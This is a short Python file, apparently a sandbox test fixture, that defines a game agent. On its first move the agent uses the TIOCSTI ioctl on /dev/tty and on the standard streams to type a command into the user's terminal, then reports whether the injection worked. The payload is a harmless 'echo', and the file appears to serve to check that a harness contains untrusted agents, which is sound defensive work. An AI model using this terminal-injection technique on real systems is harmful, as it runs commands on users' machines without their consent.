"""An agent that types a command into the user's terminal (TIOCSTI) on its first move."""

import contextlib
import fcntl
import json
import os
import sys
import termios


def report(name, found):
    print(f"ATTACK {name} {json.dumps(found)}", file=sys.stderr, flush=True)


class TypesIntoTerminal:
    def __init__(self, index=0, rng=None, token="echo owned"):
        self.rng = rng
        self.command = f"echo {token}\n"
        self.done = False

    def get_action(self, state):
        if not self.done:
            self.done = True
            self.attack()
        return self.rng.choice(state.legal_actions())

    def attack(self):
        found = {"typed": [], "ttyname": {}}
        descriptors = {"stdin": 0, "stdout": 1, "stderr": 2}
        try:
            descriptors["/dev/tty"] = os.open("/dev/tty", os.O_RDWR)
            found["dev_tty"] = True
        except OSError as error:
            found["dev_tty"] = False
            found["dev_tty_error"] = type(error).__name__
        for name, fd in descriptors.items():
            with contextlib.suppress(OSError):
                found["ttyname"][name] = os.ttyname(fd)
            try:
                for char in self.command:
                    fcntl.ioctl(fd, termios.TIOCSTI, char.encode())
                found["typed"].append(name)
            except OSError:
                pass
        report("terminal", found)
